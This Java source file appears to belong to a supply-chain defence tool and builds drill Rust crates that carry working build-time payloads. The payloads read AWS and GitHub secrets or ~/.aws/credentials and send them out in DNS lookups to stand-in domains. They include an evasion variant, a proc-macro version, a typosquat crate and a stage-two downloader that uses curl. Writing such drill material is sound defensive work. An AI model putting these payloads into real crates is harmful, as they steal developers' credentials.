package dev.warden.exercise;

import dev.warden.core.WardenException;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;

/**
 * The crates of the attack Warden defends against, written as real source trees: {@code rust-utilities-v2} 2.1.0
 * (clean) and 2.1.1 (adds {@code url-parse}), and {@code url-parse} 0.1.0, whose build script reads
 * {@code AWS_SECRET_ACCESS_KEY} and {@code GITHUB_TOKEN}, base64-encodes them and resolves
 * {@code <b64>.malicious-domain.com}; plus variants of that payload. Harmless by construction: what they steal in a
 * drill are fake values, and where they send it is a sinkhole or nowhere. The drill builds them with real cargo; the
 * tests and the example under {@code examples/attack} use the same sources.
 */
public final class DrillCrates {

    private DrillCrates() {
    }

    public static final String ENCODER = """
            fn encode(input: &[u8]) -> String {
                const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
                let mut out = String::new();
                for chunk in input.chunks(3) {
                    let b = [chunk[0], *chunk.get(1).unwrap_or(&0), *chunk.get(2).unwrap_or(&0)];
                    let n = (b[0] as u32) << 16 | (b[1] as u32) << 8 | b[2] as u32;
                    for i in 0..=chunk.len() {
                        out.push(ALPHABET[(n >> (18 - 6 * i) & 63) as usize] as char);
                    }
                }
                out
            }
            """;

    /** The seed's payload: read two secrets, encode them, leak them as a DNS lookup. */
    public static final String EXFILTRATING_BUILD_SCRIPT = """
            use std::env;
            use std::net::ToSocketAddrs;

            """ + ENCODER + """

            fn main() {
                let mut loot = String::new();
                for name in ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"] {
                    if let Ok(value) = env::var(name) {
                        loot.push_str(&value);
                        loot.push(';');
                    }
                }
                // DNS labels hold at most 63 bytes: cut the encoded loot into labels.
                let encoded = encode(loot.as_bytes());
                let labels: Vec<&str> = encoded.as_bytes().chunks(60)
                    .map(|chunk| std::str::from_utf8(chunk).unwrap()).collect();
                let host = format!("{}.malicious-domain.com:53", labels.join("."));
                let _ = host.to_socket_addrs();
            }
            """;

    /** Secret names split so that no literal contains them, and the lookup done by nslookup. */
    public static final String CONCATENATING_BUILD_SCRIPT = """
            use std::process::Command;

            fn main() {
                let key = ["AWS_SEC", "RET_ACC", "ESS_KEY"].concat();
                let value = std::env::var(&key).unwrap_or_default();
                let encoded: String = value.bytes().map(|b| format!("{:02x}", b)).collect();
                let _ = Command::new("nslookup").arg(format!("{}.malicious-domain.com", encoded)).output();
            }
            """;

    /** The payload in a procedural macro instead of a build script. */
    public static final String PROC_MACRO_PAYLOAD = """
            extern crate proc_macro;
            use proc_macro::TokenStream;
            use std::net::ToSocketAddrs;

            #[proc_macro_derive(Parse)]
            pub fn derive_parse(input: TokenStream) -> TokenStream {
                if let Ok(token) = std::env::var("GITHUB_TOKEN") {
                    let _ = format!("{}.malicious-domain.com:53", token.len()).to_socket_addrs();
                }
                input
            }
            """;

    public static void urlParse(Path dir, String buildScript) {
        write(dir, "Cargo.toml", """
                [package]
                name = "url-parse"
                version = "0.1.0"
                edition = "2021"
                description = "URL parsing"
                license = "MIT"
                """);
        write(dir, "src/lib.rs", "pub fn parse(url: &str) -> Option<&str> { url.split(\"://\").nth(1) }\n");
        write(dir, "build.rs", buildScript);
    }

    public static void urlParseMacro(Path dir) {
        write(dir, "Cargo.toml", """
                [package]
                name = "url-parse"
                version = "0.1.0"
                edition = "2021"
                license = "MIT"

                [lib]
                proc-macro = true
                """);
        write(dir, "src/lib.rs", PROC_MACRO_PAYLOAD);
    }

    public static void rustUtilities(Path dir, String version, boolean withUrlParse) {
        write(dir, "Cargo.toml", """
                [package]
                name = "rust-utilities-v2"
                version = "%s"
                edition = "2021"
                license = "MIT"
                %s
                """.formatted(version, withUrlParse ? "\n[dependencies]\nurl-parse = \"0.1\"\n" : ""));
        write(dir, "src/lib.rs", """
                /// Trims and lower-cases a string.
                pub fn normalize(text: &str) -> String {
                    text.trim().to_lowercase()
                }
                """);
    }

    /** A compromised maintainer's release: stage one, run at build time, phones home and fetches stage two. */
    public static final String DOWNLOADER_BUILD_SCRIPT = """
            use std::net::ToSocketAddrs;
            use std::process::Command;

            fn main() {
                let token = std::env::var("GITHUB_TOKEN").unwrap_or_default();
                let hex: String = token.bytes().map(|b| format!("{:02x}", b)).collect();
                let labels: Vec<&str> = hex.as_bytes().chunks(60)
                    .map(|chunk| std::str::from_utf8(chunk).unwrap()).collect();
                let _ = format!("{}.cdn-proc-macro.com:443", labels.join(".")).to_socket_addrs();
                let out = std::env::var("OUT_DIR").unwrap_or_default();
                let _ = Command::new("curl").args(["-fsSL", "-m", "3", "http://203.0.113.66/stage2.sh", "-o"])
                    .arg(format!("{}/stage2.sh", out)).status();
            }
            """;

    /** Dependency confusion's payload: the AWS credentials file, base32 in the labels of a lookup. */
    public static final String CREDENTIALS_BUILD_SCRIPT = """
            use std::net::ToSocketAddrs;

            fn base32(input: &[u8]) -> String {
                const ALPHABET: &[u8] = b"abcdefghijklmnopqrstuvwxyz234567";
                let (mut out, mut buffer, mut bits) = (String::new(), 0u32, 0u32);
                for byte in input {
                    buffer = buffer << 8 | *byte as u32;
                    bits += 8;
                    while bits >= 5 {
                        out.push(ALPHABET[(buffer >> (bits - 5) & 31) as usize] as char);
                        bits -= 5;
                    }
                }
                if bits > 0 {
                    out.push(ALPHABET[(buffer << (5 - bits) & 31) as usize] as char);
                }
                out
            }

            fn main() {
                let home = std::env::var("HOME").unwrap_or_default();
                let file = std::fs::read_to_string(format!("{}/.aws/credentials", home)).unwrap_or_default();
                let secret = file.lines().find(|l| l.starts_with("aws_secret_access_key"))
                    .and_then(|l| l.split('=').nth(1)).unwrap_or("").trim().to_string();
                let encoded = base32(secret.as_bytes());
                let labels: Vec<&str> = encoded.as_bytes().chunks(60)
                    .map(|chunk| std::str::from_utf8(chunk).unwrap()).collect();
                let _ = format!("{}.acme-telemetry.net:53", labels.join(".")).to_socket_addrs();
            }
            """;

    /** A plain library at {@code version}, optionally depending on other crates ({@code name = "req"} lines). */
    public static void library(Path dir, String name, String version, String dependencies, String body) {
        write(dir, "Cargo.toml", """
                [package]
                name = "%s"
                version = "%s"
                edition = "2021"
                license = "MIT"
                %s
                """.formatted(name, version, dependencies.isEmpty() ? "" : "\n[dependencies]\n" + dependencies));
        write(dir, "src/lib.rs", body);
    }

    /** {@code proc-macro1}: a proc-macro crate named to pass for proc-macro2, carrying the downloader. */
    public static void procMacro1(Path dir) {
        write(dir, "Cargo.toml", """
                [package]
                name = "proc-macro1"
                version = "1.0.0"
                edition = "2021"
                license = "MIT OR Apache-2.0"
                description = "A substitute implementation of the compiler's proc_macro API"

                [lib]
                proc-macro = true
                """);
        write(dir, "src/lib.rs", """
                extern crate proc_macro;
                use proc_macro::TokenStream;

                #[proc_macro_derive(Span)]
                pub fn derive_span(input: TokenStream) -> TokenStream {
                    input
                }
                """);
        write(dir, "build.rs", DOWNLOADER_BUILD_SCRIPT);
    }

    static void write(Path dir, String relative, String text) {
        try {
            Path file = dir.resolve(relative);
            Files.createDirectories(file.getParent());
            Files.writeString(file, text);
        } catch (IOException e) {
            throw new WardenException(dir + ": cannot write " + relative + ": " + e.getMessage());
        }
    }
}
